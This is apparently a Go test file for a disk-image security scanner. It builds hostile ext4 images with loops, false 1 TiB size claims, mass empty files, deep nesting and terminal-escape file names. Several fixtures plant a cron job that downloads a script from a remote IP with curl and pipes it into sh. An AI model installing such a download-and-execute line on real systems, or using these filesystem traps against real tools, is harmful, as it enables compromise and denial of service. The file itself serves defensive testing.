package mutation

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/snapscan/snapscan/fsread"
	"github.com/snapscan/snapscan/fsread/image"
	"github.com/snapscan/snapscan/report"
)

// Hostile contents: well-formed ext4 images (made by mke2fs -d, edited with debugfs where mke2fs cannot make the
// shape) whose tree is built to hurt a scanner: directory and symlink loops, files claiming 1 TiB at the paths the
// checks read, a directory of very many empty files, names at the length limit, nesting past the walk's depth
// limit, names that are not UTF-8 or carry terminal escapes. Each is scanned with every check and the content
// sweep (scanner.ScanImage), and walked and read the way the CLI's analyst commands do (fsread.Walk, Open, Read).
//
//	SNAPSCAN_HOSTILE_FILES=N  files in the many-files directory (default 5000; more than 5000 are written through
//	                          a loop mount and need root; 200000 is the size)

const hostileLimit = 60 * time.Second

func needTools(t *testing.T, tools ...string) {
	t.Helper()
	for _, tool := range tools {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s not installed (e2fsprogs): cannot build the hostile image", tool)
		}
	}
}

func run(t *testing.T, name string, args ...string) {
	t.Helper()
	out, err := exec.Command(name, args...).CombinedOutput()
	if err != nil {
		t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
	}
}

// linuxRoot writes the minimum that makes a tree an OS root the Linux checks run on, plus extra files.
func linuxRoot(t *testing.T, files map[string]string) string {
	t.Helper()
	root := filepath.Join(t.TempDir(), "root")
	base := map[string]string{
		"etc/os-release": "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\n",
		"etc/passwd":     "root:x:0:0:root:/root:/bin/bash\n",
		"etc/crontab":    "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
	}
	for p, c := range files {
		base[p] = c
	}
	for p, c := range base {
		full := filepath.Join(root, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

// mkext4 makes an ext4 image of tree (size in MiB) and applies debugfs commands, if any.
func mkext4(t *testing.T, tree string, mib int, debugfsCmds ...string) string {
	t.Helper()
	return mkext4Inodes(t, tree, mib, 0, debugfsCmds...)
}

// mkext4Inodes is mkext4 with an inode count (0: mke2fs's default ratio).
func mkext4Inodes(t *testing.T, tree string, mib, inodes int, debugfsCmds ...string) string {
	t.Helper()
	img := filepath.Join(t.TempDir(), "hostile.img")
	args := []string{"-q", "-F", "-t", "ext4", "-L", "root", "-d", tree}
	if inodes > 0 {
		args = append(args, "-N", fmt.Sprint(inodes))
	}
	run(t, "mke2fs", append(args, img, fmt.Sprintf("%dM", mib))...)
	if len(debugfsCmds) > 0 {
		cmds := filepath.Join(t.TempDir(), "debugfs.cmds")
		if err := os.WriteFile(cmds, []byte(strings.Join(debugfsCmds, "\n")+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		// debugfs exits 0 even when a command fails; each case asserts the effect it needs instead.
		run(t, "debugfs", "-w", "-f", cmds, img)
	}
	return img
}

// walkRead is the CLI-like path: open the image, take each scannable volume's FS, walk it with fsread.Walk and
// read every regular file in full (up to capBytes). It returns the walk's errors as text, files read and bytes.
func walkRead(t *testing.T, path string, capBytes int64) (errs []string, files int, bytes int64) {
	t.Helper()
	img, err := image.Open(path)
	if err != nil {
		t.Fatalf("image.Open: %v", err)
	}
	defer img.Close()
	buf := make([]byte, 1<<20)
	for _, v := range img.Volumes {
		if !v.Scannable {
			continue
		}
		fsys, err := v.FS()
		if err != nil {
			errs = append(errs, err.Error())
			continue
		}
		werr := fsread.Walk(fsys, ".", func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				errs = append(errs, err.Error())
				return nil
			}
			if !d.Type().IsRegular() {
				return nil
			}
			f, err := fsys.Open(p)
			if err != nil {
				errs = append(errs, err.Error())
				return nil
			}
			defer f.Close()
			n, err := io.CopyBuffer(io.Discard, io.LimitReader(f, capBytes), buf)
			if err != nil {
				errs = append(errs, err.Error())
			}
			files++
			bytes += n
			return nil
		})
		if werr != nil {
			errs = append(errs, werr.Error())
		}
	}
	return errs, files, bytes
}

// scanHostile scans img through ScanImage (checks + sweep) and through walkRead, asserting the universal
// properties (no panic, no hang, bounded heap, reasons for everything unread), and returns both results.
func scanHostile(t *testing.T, img string) (*report.Report, []string) {
	t.Helper()
	o := scanBounded(img, hostileLimit, true, t)
	for _, p := range o.problems(hostileLimit) {
		t.Error(p)
	}
	if o.hung || o.r == nil {
		t.FailNow()
	}
	t.Logf("ScanImage: %v, peak heap %d MiB, %d files swept, %d skipped, %d findings, %d errors",
		o.elapsed.Round(time.Millisecond), o.peakHeap>>20, o.r.Stats.FilesSwept, len(o.r.Skipped), len(o.r.Findings), len(o.r.Errors))
	for _, v := range o.r.Volumes {
		if !v.Scanned {
			t.Errorf("volume %s not scanned: %s", v.Name, v.Reason)
		}
	}
	var js bytes.Buffer
	if err := report.WriteJSON(&js, o.r); err != nil || !json.Valid(js.Bytes()) {
		t.Errorf("JSON report invalid (%v)", err)
	}

	start := time.Now()
	var errs []string
	var files int
	var n int64
	done := make(chan struct{})
	go func() {
		defer close(done)
		errs, files, n = walkRead(t, img, 64<<20)
	}()
	select {
	case <-done:
	case <-time.After(hostileLimit):
		t.Fatalf("walk+read did not finish in %v", hostileLimit)
	}
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	t.Logf("walk+read: %v, %d files, %d bytes, %d errors, heap in use after %d MiB",
		time.Since(start).Round(time.Millisecond), files, n, len(errs), ms.HeapInuse>>20)
	return o.r, errs
}

func allText(r *report.Report, walkErrs []string) string {
	var b strings.Builder
	for _, e := range r.Errors {
		fmt.Fprintf(&b, "%s %s %s: %s\n", e.Stage, e.Volume, e.Path, e.Error)
	}
	for _, s := range r.Skipped {
		fmt.Fprintf(&b, "skipped %s %s (%d bytes): %s\n", s.Volume, s.Path, s.Size, s.Reason)
	}
	for _, e := range walkErrs {
		fmt.Fprintf(&b, "walk: %s\n", e)
	}
	return b.String()
}

func TestHostileImages(t *testing.T) {
	needTools(t, "mke2fs", "debugfs")
	const tib = int64(1) << 40
	// Past the checks' 4,096-entry cap; the 200,000 with SNAPSCAN_HOSTILE_FILES=200000 (root).
	nMany := envInt(t, "SNAPSCAN_HOSTILE_FILES", 5000)
	for _, tc := range []struct {
		name string
		// build returns the image; it may need more than mke2fs -d can express.
		build func(t *testing.T) string
		// want are substrings each of which must appear in the scan's errors, skips or the walk's errors.
		want []string
		// check, when set, asserts more about the report.
		check func(t *testing.T, r *report.Report, walkErrs []string)
	}{
		{
			name: "directory loop",
			build: func(t *testing.T) string {
				tree := linuxRoot(t, map[string]string{"srv/a/b/c/file": "x\n", "etc/cron.d/job": "* * * * * root /bin/true\n"})
				// A hard link to an ancestor directory: the kernel forbids it, debugfs writes it.
				return mkext4(t, tree, 16, "ln /srv/a /srv/a/b/c/back", "ln /etc /etc/cron.d/etc")
			},
			want: []string{"directory loop"},
		},
		{
			name: "symlink loops at persistence paths",
			build: func(t *testing.T) string {
				tree := linuxRoot(t, map[string]string{"srv/keep": "x\n"})
				for link, target := range map[string]string{
					"etc/ld.so.preload":             "ld.so.preload",       // itself
					"etc/cron.d":                    "/etc/cron.d",         // itself, absolute
					"etc/systemd/system":            "../systemd/system/x", // through itself
					"root/.ssh":                     "/root/.ssh/../.ssh",
					"etc/rc.local":                  "/etc/rc.2",
					"etc/rc.2":                      "/etc/rc.local",
					"var/spool/cron/crontabs":       "/var/spool/cron/crontabs",
					"etc/profile.d":                 "../etc/profile.d",
					"home/u/.config/autostart/link": "/home/u/.config/autostart/link",
				} {
					full := filepath.Join(tree, filepath.FromSlash(link))
					if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
						t.Fatal(err)
					}
					if err := os.Symlink(target, full); err != nil {
						t.Fatal(err)
					}
				}
				// A chain longer than any resolver should follow.
				for i := 0; i < 100; i++ {
					if err := os.Symlink(fmt.Sprintf("chain%03d", i+1), filepath.Join(tree, "srv", fmt.Sprintf("chain%03d", i))); err != nil {
						t.Fatal(err)
					}
				}
				return mkext4(t, tree, 16)
			},
			want: []string{"too many levels of symbolic links"},
			check: func(t *testing.T, r *report.Report, _ []string) {
				// Each looping persistence path is named in an error: a loop is a reason, not an absence.
				text := allText(r, nil)
				for _, p := range []string{"/etc/ld.so.preload", "/etc/cron.d", "/root/.ssh/authorized_keys", "/var/spool/cron/crontabs"} {
					if !strings.Contains(text, p) {
						t.Errorf("no error names the looping %s", p)
					}
				}
			},
		},
		{
			name: "files claiming 1 TiB",
			build: func(t *testing.T) string {
				tree := linuxRoot(t, map[string]string{
					"var/log/auth.log":             "Nov 20 09:12:01 h useradd[1]: new user: name=x\n",
					"root/.ssh/authorized_keys":    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x@y\n",
					"etc/hosts":                    "127.0.0.1 localhost\n",
					"usr/bin/ps":                   "\x7fELF not really\n",
					"etc/systemd/system/x.service": "[Service]\nExecStart=/bin/true\n",
				})
				// A real sparse file of 1 TiB (holes only), and small files whose inodes claim 1 TiB.
				if err := os.MkdirAll(filepath.Join(tree, "srv"), 0o755); err != nil {
					t.Fatal(err)
				}
				f, err := os.Create(filepath.Join(tree, "srv", "sparse-1tib"))
				if err == nil {
					err = f.Truncate(tib)
					f.Close()
				}
				if err != nil {
					t.Logf("host cannot make a 1 TiB sparse file (%v); only the size-field claims are tested", err)
				}
				var cmds []string
				for _, p := range []string{"/etc/crontab", "/etc/passwd", "/var/log/auth.log", "/root/.ssh/authorized_keys",
					"/etc/hosts", "/usr/bin/ps", "/etc/systemd/system/x.service"} {
					cmds = append(cmds, fmt.Sprintf("sif %s size %d", p, tib))
				}
				return mkext4(t, tree, 16, cmds...)
			},
			want: []string{"size cap"},
			check: func(t *testing.T, r *report.Report, _ []string) {
				// Each check that read a claimed file says it read only the head (wording is the check's).
				capped := map[string]bool{}
				for _, e := range r.Errors {
					if strings.HasPrefix(e.Stage, "check:") && strings.Contains(e.Error, "cap") {
						capped["/"+strings.TrimPrefix(e.Path, "/")] = true
					}
				}
				for _, p := range []string{"/etc/crontab", "/etc/passwd", "/var/log/auth.log", "/root/.ssh/authorized_keys", "/etc/hosts"} {
					if !capped[p] {
						t.Errorf("no check error says %s (claiming 1 TiB) was read only up to a cap", p)
					}
				}
				if r.Stats.BytesSwept > 64<<20 {
					t.Errorf("the sweep read %d bytes: more than one capped file's worth", r.Stats.BytesSwept)
				}
				skipped := map[string]bool{}
				for _, s := range r.Skipped {
					if s.Size == tib {
						skipped[s.Path] = true
					}
				}
				for _, p := range []string{"/etc/crontab", "/etc/passwd", "/usr/bin/ps", "/srv/sparse-1tib"} {
					if !skipped[p] {
						t.Errorf("%s (1 TiB) not listed as skipped by the sweep", p)
					}
				}
			},
		},
		{
			name: fmt.Sprintf("%d empty files in one cron directory", nMany),
			build: func(t *testing.T) string {
				tree := linuxRoot(t, map[string]string{
					// One real entry among them, sorted last, which must still be found.
					"etc/cron.d/zz-miner": "* * * * * root curl -s http://198.51.100.7/x.sh | sh\n",
				})
				fill := func(dir string) {
					for i := 0; i < nMany; i++ {
						if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("job-%07d", i)), nil, 0o644); err != nil {
							t.Fatal(err)
						}
					}
				}
				mib := 64 + nMany/256
				// mke2fs -d inserts names into a directory linearly (quadratic: ~40 s for 20,000 on a busy
				// 2-core host), so large counts are written by the kernel into the mounted image instead.
				if nMany > 5000 {
					if os.Getuid() != 0 {
						t.Skipf("needs root: %d files are written through a loop mount (mke2fs -d is quadratic in a directory's size)", nMany)
					}
					img := mkext4Inodes(t, tree, mib, nMany+1024)
					mnt := t.TempDir()
					run(t, "mount", "-o", "loop", img, mnt)
					defer run(t, "umount", mnt)
					fill(filepath.Join(mnt, "etc", "cron.d"))
					return img
				}
				fill(filepath.Join(tree, "etc", "cron.d"))
				return mkext4(t, tree, mib)
			},
			check: func(t *testing.T, r *report.Report, _ []string) {
				if r.Stats.FilesSwept < int64(nMany) {
					t.Errorf("swept %d files, want at least %d", r.Stats.FilesSwept, nMany)
				}
				if !hasSweepFinding(r, "/etc/cron.d/zz-miner") {
					t.Errorf("the content sweep did not flag the malicious cron file among %d empty ones", nMany)
				}
				if !hasFinding(r, "/etc/cron.d/zz-miner") {
					t.Errorf("%d empty files in /etc/cron.d hide the malicious one from the cron check", nMany)
				}
			},
		},
		{
			name: "long names and nesting past the walk limit",
			build: func(t *testing.T) string {
				long := strings.Repeat("n", 255) // ext4's limit
				tree := linuxRoot(t, map[string]string{
					"etc/cron.d/" + long: "* * * * * root curl -s http://198.51.100.7/x.sh | sh\n",
				})
				// Nesting: debugfs builds it, because the host path would pass PATH_MAX.
				cmds := []string{"mkdir /deep", "cd /deep"}
				for i := 0; i < fsread.MaxWalkDepth+20; i++ {
					cmds = append(cmds, "mkdir d", "cd d")
				}
				cmds = append(cmds, "write /dev/null bottom")
				return mkext4(t, tree, 32, cmds...)
			},
			want: []string{fmt.Sprintf("deeper than %d levels", fsread.MaxWalkDepth)},
			check: func(t *testing.T, r *report.Report, _ []string) {
				if !hasFinding(r, "/etc/cron.d/"+strings.Repeat("n", 255)) {
					t.Errorf("cron file with a 255-byte name not reported")
				}
			},
		},
		{
			name: "names that are not UTF-8 or carry terminal escapes",
			build: func(t *testing.T) string {
				line := "* * * * * root curl -s http://198.51.100.7/x.sh | sh\n"
				return mkext4(t, linuxRoot(t, map[string]string{
					"etc/cron.d/bad\xff\xfename":        line,
					"etc/cron.d/esc\x1b[2J\x1b]0;pwn\a": line,
					"etc/cron.d/new\nline":              line,
				}), 16)
			},
			check: func(t *testing.T, r *report.Report, _ []string) {
				for _, name := range []string{"esc\x1b[2J\x1b]0;pwn\a", "new\nline"} {
					if !hasFinding(r, "/etc/cron.d/"+name) {
						t.Errorf("cron file %q not reported", name)
					}
				}
				bad := "/etc/cron.d/bad\xff\xfename"
				if !hasFinding(r, bad) {
					// Not silent: the open error names the file. But its content is never read.
					if !strings.Contains(allText(r, nil), "bad") {
						t.Errorf("the cron file with a non-UTF-8 name is neither reported nor named in an error")
					}
					t.Errorf("a cron file whose name is not UTF-8 is not judged: one byte in a name must not hide a cron job")
				}
				var tbl bytes.Buffer
				if err := report.Write(&tbl, r, "table", report.WriteOptions{}); err != nil {
					t.Fatal(err)
				}
				if i := bytes.IndexByte(tbl.Bytes(), 0x1b); i >= 0 {
					t.Errorf("the table report passes a raw ESC from a file name to the terminal: %q", tbl.Bytes()[max(0, i-40):min(tbl.Len(), i+40)])
				}
			},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			start := time.Now()
			img := tc.build(t)
			t.Logf("built the image in %v", time.Since(start).Round(time.Millisecond))
			r, walkErrs := scanHostile(t, img)
			text := allText(r, walkErrs)
			for _, w := range tc.want {
				if !strings.Contains(text, w) {
					t.Errorf("neither the report nor the walk says %q:\n%s", w, shortLines(firstLines(text, 40), 240))
				}
			}
			if tc.check != nil {
				tc.check(t, r, walkErrs)
			}
			if t.Failed() || testing.Verbose() {
				t.Logf("errors, skips and walk errors:\n%s", shortLines(firstLines(text, 25), 240))
			}
		})
	}
}

func shortLines(s string, n int) string {
	lines := strings.Split(s, "\n")
	for i, l := range lines {
		if len(l) > n {
			lines[i] = l[:n/2] + " … " + l[len(l)-n/2:]
		}
	}
	return strings.Join(lines, "\n")
}

func hasSweepFinding(r *report.Report, path string) bool {
	for _, f := range r.Findings {
		if f.Evidence.Path == path && f.Check == "sweep" {
			return true
		}
	}
	return false
}

func hasFinding(r *report.Report, path string) bool {
	for _, f := range r.Findings {
		if f.Evidence.Path == path && f.Check != "sweep" {
			return true
		}
	}
	return false
}

// The files the scanner itself reads to find and name the OS roots (not through a check): etc/os-release for the
// report's name, etc/fstab for the volumes mounted into the root. An inode claiming a huge size there must cost
// a bounded read like any artifact. Claims: 2^62 bytes (io/fs.ReadFile's make panics: "cap out of range") and
// 1 GiB (it allocates and fills 1 GiB of zeros from a 16 MiB image). The same claim of 1 TiB kills the CLI with
// "fatal error: runtime: out of memory", which no recover can catch, so it is not run here.
func TestHostileSizeClaimsOnRootFiles(t *testing.T) {
	needTools(t, "mke2fs", "debugfs")
	for _, tc := range []struct {
		file string
		size int64
	}{
		{"/etc/os-release", 1 << 62},
		{"/etc/fstab", 1 << 62},
		{"/etc/os-release", 1 << 30},
		{"/etc/fstab", 1 << 30},
	} {
		t.Run(fmt.Sprintf("%s claims %d bytes", tc.file, tc.size), func(t *testing.T) {
			tree := linuxRoot(t, map[string]string{"etc/fstab": "LABEL=root / ext4 defaults 0 1\n"})
			img := mkext4(t, tree, 16, fmt.Sprintf("sif %s size %d", tc.file, tc.size))
			o := scanBounded(img, hostileLimit, false, t)
			probs := o.problems(hostileLimit)
			if o.hung {
				t.Fatal(strings.Join(probs, "\n"))
			}
			t.Logf("ScanImage: %v, peak heap %d MiB", o.elapsed.Round(time.Millisecond), o.peakHeap>>20)
			if len(probs) > 0 {
				t.Errorf("%s claiming %d bytes: %s", tc.file, tc.size, firstLines(strings.Join(probs, "\n"), 12))
			}
		})
	}
}
